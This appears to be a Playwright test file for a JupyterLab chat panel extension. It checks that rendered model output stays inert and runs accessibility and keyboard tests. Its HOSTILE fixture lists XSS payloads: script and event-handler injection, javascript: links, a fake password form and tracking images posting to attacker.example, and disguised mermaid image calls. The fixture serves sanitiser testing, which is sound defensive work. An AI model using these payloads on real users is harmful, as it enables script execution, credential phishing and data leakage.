"""What a model says does nothing before somebody clicks; and everybody can use the panel."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Request, expect

from bestchat_server_ext.testing.model_host import ModelHost, serving
from bestchat_server_ext.testing.script import Fail, Report, Say, Think, Wait

AXE = Path(__file__).parents[2] / "labextension/node_modules/axe-core/axe.min.js"

HOSTILE = """\
<script>window.hacked = "script"</script>
<img src="x" onerror="window.hacked = 'handler'">
<svg onload="window.hacked = 'svg'"><circle r="9"/></svg>
<iframe src="javascript:parent.hacked = 'frame'"></iframe>
<style>body { display: none }</style>
<div class="jp-Dialog" style="position: fixed; inset: 0; z-index: 99999">covered</div>
<form action="http://attacker.example/"><input name="password"><button>Sign in</button></form>
<a href="javascript:window.hacked = 'link'" id="jp-main-dock-panel">a link</a>
<button data-commandlinker-command="application:close-all">a command</button>

![tracker](http://attacker.example/pixel.png?secret=1)

![relative](../../logout)

<img src="//attacker.example/pixel.png">
<video src="http://attacker.example/v.mp4" autoplay></video>
<input type="image" src="http://attacker.example/i.png">

[click](javascript:window.hacked='md') [go](/logout) [web](https://example.org/)

$\\href{javascript:window.hacked='tex'}{x}$

```mermaid
graph LR
  A@{ img: "http://attacker.example/diagram.png" } --> B
```

```mermaid
graph LR
  C@{ "\\x69mg": "http:\\x2f\\x2fattacker.example/escaped.png" } --> D
```

- in a list:

  ```mermaid
  graph LR
    E@{ img: "http://attacker.example/list.png" } --> F
  ```

> ```mermaid
> graph LR
>   G@{ img: "http://attacker.example/quote.png" } --> H
> ```

$\\href{/logout}{\\text{details}}$

The end.
"""


def test_hostile_output_does_nothing(panel: Any, lab: Any) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((lab.url, "data:", "blob:")) or "logout" in request.url:
            asked.append(request.url)

    panel.page.on("request", note)
    panel.choose(lab.script("hostile", (Say(HOSTILE),)))
    panel.ask("Be evil.")
    answer = panel.ends()
    expect(answer.get_by_text("The end.")).to_be_visible()
    expect(answer.locator("mjx-container")).to_have_count(2)
    assert panel.page.evaluate("window.hacked") is None
    inside = answer.locator(".jp-BestChat-markdown")
    for active in (
        "script",
        "iframe",
        "style",
        "form",
        "button.evil",
        "video",
        "svg:not(mjx-container svg)",
    ):
        expect(inside.locator(f".jp-BestChat-prose {active}")).to_have_count(0)
    for image in inside.locator(".jp-BestChat-prose img").all():
        assert (image.get_attribute("src") or "").startswith("data:")
    marked = ".jp-Dialog, [style*=fixed], [id], [data-commandlinker-command]"
    found = (
        inside.locator(".jp-BestChat-prose")
        .locator(marked)
        .evaluate_all("all => all.map(one => one.outerHTML)")
    )
    assert found == []
    links = inside.locator("a[href]").evaluate_all(
        "all => all.map(one => one.getAttribute('href'))"
    )
    assert [link for link in links if not link.startswith(("https://", "http://"))] == []
    expect(inside.get_by_role("link", name="tracker (attacker.example)")).to_be_visible()
    assert asked == []


def test_a_huge_table_holds_nothing_up(panel: Any, lab: Any) -> None:
    rows = "\n".join(f"| {n} | {'x' * 30} | {n * n} |" for n in range(2000))
    panel.choose(
        lab.script("table", (Say(f"| a | b | c |\n|---|---|---|\n{rows}\n\nDone.", 4000),))
    )
    panel.ask("A table, please.")
    expect(panel.ends().get_by_text("Done.")).to_be_visible()
    panel.ask("Still there?")
    expect(panel.questions).to_have_count(2)


THEMES = ["JupyterLab Light", "JupyterLab Dark"]


@pytest.mark.parametrize("theme", THEMES)
def test_axe_finds_no_serious_violation(panel: Any, lab: Any, theme: str) -> None:
    panel.page.evaluate(
        "theme => window.jupyterapp.commands.execute('apputils:change-theme', {theme})", theme
    )
    panel.choose(
        lab.script(
            "rich", (Think("Hm."), Say("**Yes**:\n\n```python\n1 + 1\n```\n"), Report(10, 5))
        )
    )
    panel.ask("Is it?")
    expect(panel.ends().locator("pre")).to_have_count(1)
    panel.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))
    _check(panel)
    panel.button("Conversations").click()
    expect(panel.root.get_by_role("listitem").first).to_be_visible()
    _check(panel)
    panel.button("Providers and settings").click()
    expect(panel.root.get_by_role("searchbox", name="Search providers")).to_be_visible()
    panel.root.locator("details summary").first.click()
    _check(panel)
    for name in ("Answers", "Usage", "Data"):
        panel.root.get_by_role("tab", name=name).click()
        expect(panel.root.get_by_role("tabpanel", name=name)).to_be_visible()
        _check(panel)


@pytest.mark.parametrize("theme", THEMES)
def test_axe_finds_nothing_while_answers_come_fail_and_branch(
    panel: Any, lab: Any, theme: str
) -> None:
    panel.page.evaluate(
        "theme => window.jupyterapp.commands.execute('apputils:change-theme', {theme})", theme
    )
    panel.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))
    expect(panel.root.get_by_role("heading", name="What are you working on?")).to_be_visible()
    _check(panel)
    panel.root.locator(".jp-BestChat-pickerButton").click()
    expect(panel.root.get_by_role("option").first).to_be_visible()
    _check(panel)
    panel.page.keyboard.press("Escape")
    panel.choose(lab.script("slow", (Say("Well. "), Wait(30), Say("No."))))
    panel.ask("first")
    expect(panel.answers.last).to_contain_text("Well.")
    panel.ask("this waits")
    expect(panel.root.get_by_role("list", name="Waiting messages")).to_be_visible()
    _check(panel)
    panel.button("Take back").click()
    panel.button("Stop").click()
    panel.ends("cancelled")
    _check(panel)
    panel.choose(lab.script("broken", (Fail("context_overflow", "Too long."),)))
    panel.questions.last.hover()
    panel.button("Edit: ask this differently").click()
    _check(panel)
    panel.button("Send as a new branch").click()
    panel.ends("failed")
    expect(panel.button("Previous branch")).to_be_visible()
    _check(panel)


@pytest.mark.parametrize("theme", THEMES)
def test_axe_finds_nothing_at_first_contact(start_lab: Any, panel_on: Any, theme: str) -> None:
    with serving(ModelHost(models={"qwen3:4b": 40_960})) as host:
        lab = start_lab(OLLAMA_HOST=host.url, BESTCHAT_SCRIPTS_DIR="")
        lab.wait()
        panel = panel_on(lab)
        panel.page.evaluate(
            "theme => window.jupyterapp.commands.execute('apputils:change-theme', {theme})", theme
        )
        expect(panel.root.get_by_role("region", name="Ollama", exact=True)).to_be_visible()
        panel.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))
        _check(panel)


def _check(panel: Any) -> None:
    found = panel.page.evaluate("() => window.axe.run('#bestchat-panel')")
    serious = [
        (one["id"], one["help"], [node["html"][:200] for node in one["nodes"]])
        for one in found["violations"]
        if one["impact"] in {"serious", "critical"}
    ]
    assert serious == []


def test_the_keyboard_does_everything(panel: Any) -> None:
    panel.composer.focus()
    panel.page.keyboard.type("by keyboard")
    panel.page.keyboard.press("Enter")
    panel.ends()
    expect(panel.composer).to_be_focused()
    panel.page.keyboard.press("Shift+Tab")
    for _ in range(40):
        if panel.page.evaluate("document.activeElement.title").startswith("Edit"):
            break
        panel.page.keyboard.press("Shift+Tab")
    panel.page.keyboard.press("Enter")
    expect(panel.root.get_by_role("textbox", name="Edit your message")).to_be_focused()
    panel.page.keyboard.press("Escape")
    expect(panel.root.get_by_role("textbox", name="Edit your message")).to_have_count(0)
